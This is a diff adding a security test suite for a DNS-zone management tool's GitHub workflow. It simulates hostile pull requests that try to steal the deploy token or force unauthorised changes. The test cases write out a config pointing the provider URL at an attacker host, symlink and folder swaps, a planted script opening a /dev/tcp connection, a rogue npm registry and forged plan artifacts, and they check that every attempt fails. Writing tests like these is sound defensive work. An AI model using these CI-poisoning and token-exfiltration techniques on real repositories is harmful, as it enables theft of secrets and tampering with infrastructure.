@@ -1,0 +1,151 @@
+/** Pull requests that attack the jobs with secrets. */
+import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { beforeAll, beforeEach, expect, test } from 'vitest'
+import { checksumOf } from '../../src/apply/saved-plan/plan-json.ts'
+import type { StoredArtifact, StoredRun } from '../scripted/code-sites/github.ts'
+import { type Attacker, startAttacker } from '../support/attacker.ts'
+import { describeWithTools } from '../support/skip.ts'
+import { git } from '../support/workflow-runner.ts'
+import { commentsOn, openRepository, READ, type Repository, zone } from './repository.ts'
+
+const evilConfig = ({ host }: Attacker): string =>
+  `providers: {cloud: {type: cloud, base_url: 'http://${host}/v4', token: 'env:ZONEWRIGHT_TOKEN'}}\n`
+
+describeWithTools(['git', 'bash'], 'a pull request that attacks', () => {
+  let repository: Repository
+  let attacker: Attacker
+  let branches = 0
+
+  beforeAll(async () => {
+    repository = await openRepository()
+    await repository.applyMain()
+  })
+
+  beforeEach(async () => {
+    attacker = await startAttacker()
+    repository.github.artifacts.length = 0
+  })
+
+  /** Opens a pull request that changes a zone and does more. */
+  const open = (change: (folder: string) => void, address = '192.0.2.5'): number => {
+    branches += 1
+    repository.commit(`attack-${branches}`, (folder) => {
+      writeFileSync(join(folder, 'zones/example.com.yaml'), zone('example.com', address))
+      change(folder)
+    })
+    return repository.open(`attack-${branches}`)
+  }
+
+  test.each<[string, (folder: string, attacker: Attacker) => void]>([
+    ['changes the config', (folder, attacker) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))],
+    [
+      'replaces the config by a link to its own file',
+      (folder, attacker) => {
+        writeFileSync(join(folder, 'evil.yaml'), evilConfig(attacker))
+        rmSync(join(folder, 'zonewright.yaml'))
+        symlinkSync('evil.yaml', join(folder, 'zonewright.yaml'))
+      },
+    ],
+    [
+      'replaces the config by a folder',
+      (folder, attacker) => {
+        rmSync(join(folder, 'zonewright.yaml'))
+        mkdirSync(join(folder, 'zonewright.yaml'))
+        writeFileSync(join(folder, 'zonewright.yaml/zonewright.yaml'), evilConfig(attacker))
+      },
+    ],
+    [
+      'adds a program, packages and npm settings',
+      (folder, attacker) => {
+        mkdirSync(join(folder, 'node_modules/.bin'), { recursive: true })
+        writeFileSync(join(folder, 'node_modules/.bin/zonewright'), `#!/bin/sh\nexec 3<>/dev/tcp/${attacker.host.replace(':', '/')}\n`)
+        chmodSync(join(folder, 'node_modules/.bin/zonewright'), 0o755)
+        writeFileSync(join(folder, '.npmrc'), `registry=http://${attacker.host}/\n`)
+        writeFileSync(join(folder, '.env'), `ZONEWRIGHT_ALLOWED_HOSTS=${attacker.host}\n`)
+        writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))
+      },
+    ],
+  ])('and %s is planned with the config of the base branch', async (_, change) => {
+    const number = open((folder) => change(folder, attacker))
+    const before = repository.scene.proxy.requests.length
+    await repository.check(number)
+    expect(repository.scene.proxy.requests).toHaveLength(before)
+    const planned = await repository.plan(number)
+    expect(planned).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.5') })
+    expect(commentsOn(repository, number)).toEqual([expect.stringContaining('192.0.2.5')])
+    expect(attacker.received()).toBe('')
+    const requests = repository.scene.proxy.requests.slice(before)
+    expect(new Set(requests.map(({ headers }) => headers.authorization))).toEqual(new Set([`Bearer ${READ}`]))
+  })
+
+  test('by tags with the name of the branch does not replace it', async () => {
+    const number = open((folder) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker)))
+    const tags = ['main', 'origin/main', 'refs/remotes/origin/main']
+    for (const tag of tags) git(repository.clone, 'tag', tag, `attack-${branches}`)
+    git(repository.clone, 'push', '-q', '--tags', 'origin')
+    const planned = await repository.plan(number)
+    for (const tag of tags) git(repository.clone, 'push', '-q', '--delete', 'origin', `refs/tags/${tag}`)
+    for (const tag of tags) git(repository.clone, 'tag', '-d', tag)
+    expect(planned).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.5') })
+    expect(attacker.received()).toBe('')
+  })
+
+  test('by a host that is not in the list fails the check, which has no token', async () => {
+    const checked = await repository.check(open((folder) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))))
+    expect(checked).toMatchObject({ status: 1, output: expect.stringContaining('host-not-allowed') })
+    expect(attacker.received()).toBe('')
+  })
+
+  test.each<[string, RegExp, (kept: StoredArtifact, run: StoredRun) => void]>([
+    ['made by the workflow of the branch', /for the event pull_request,/, (_, run) => Object.assign(run, { event: 'pull_request' })],
+    [
+      'made by another workflow',
+      /by the workflow \.github\/workflows\/evil\.yml/,
+      (_, run) => Object.assign(run, { path: '.github/workflows/evil.yml' }),
+    ],
+    ['made by the workflow of another base branch', /not on main/, (_, run) => Object.assign(run, { headSha: 'b'.repeat(40) })],
+    ['of a run that failed', /ended with failure/, (_, run) => Object.assign(run, { conclusion: 'failure' })],
+    ['that has expired', /has expired/, (kept) => Object.assign(kept, { expired: true })],
+    ['of another commit', /there is no artifact/, (kept) => Object.assign(kept, { name: `zonewright-plan-${'c'.repeat(40)}` })],
+  ])('is merged with a plan %s: nothing is applied, and a new plan is shown', async (_, reason, change) => {
+    const number = open(() => undefined, `192.0.2.${100 + branches}`)
+    const { status, run } = await repository.plan(number)
+    expect(status).toBe(0)
+    const [kept] = repository.github.artifacts
+    change(kept as StoredArtifact, repository.github.runs.find(({ id }) => id === run) as StoredRun)
+    const before = repository.scene.proxy.mutations().length
+    const merged = await repository.merge(number)
+    expect(merged).toMatchObject({ status: 3, output: expect.stringMatching(reason), summary: expect.stringContaining('Planned again') })
+    expect(repository.scene.proxy.mutations()).toHaveLength(before)
+    await repository.applyMain()
+  })
+
+  test.each<[string, (text: string) => string]>([
+    ['without its signature', (text) => resealed(text, ({ signature: _, ...rest }) => rest)],
+    ['with another address', (text) => resealed(text.replaceAll('192.0.2.200', '192.0.2.66'), (plan) => plan)],
+    ['that is no plan', () => '{"format": "zonewright-plan"}'],
+  ])('is merged with a plan %s: the job fails and applies nothing', async (_, change) => {
+    const number = open(() => undefined, '192.0.2.200')
+    expect((await repository.plan(number)).status).toBe(0)
+    const file = repository.stored.get(repository.github.artifacts[0]?.id ?? 0) as string
+    writeFileSync(file, change(readFileSync(file, 'utf8')))
+    const before = repository.scene.proxy.mutations().length
+    expect((await repository.merge(number)).status).toBe(1)
+    expect(repository.scene.proxy.mutations()).toHaveLength(before)
+    repository.revert()
+  })
+
+  test('pushes to main without a pull request: nothing is applied', async () => {
+    const before = repository.scene.proxy.mutations().length
+    const pushed = await repository.push({ 'zones/example.org.yaml': zone('example.org', '192.0.2.55') })
+    expect(pushed).toMatchObject({ status: 3, output: expect.stringContaining('no single pull request put') })
+    expect(repository.scene.proxy.mutations()).toHaveLength(before)
+  })
+})
+
+/** A plan with a valid checksum after a change. */
+function resealed(text: string, change: (plan: Record<string, unknown>) => Record<string, unknown>): string {
+  const { checksum: _, ...plan } = change(JSON.parse(text))
+  return JSON.stringify({ ...plan, checksum: checksumOf(plan) })
+}
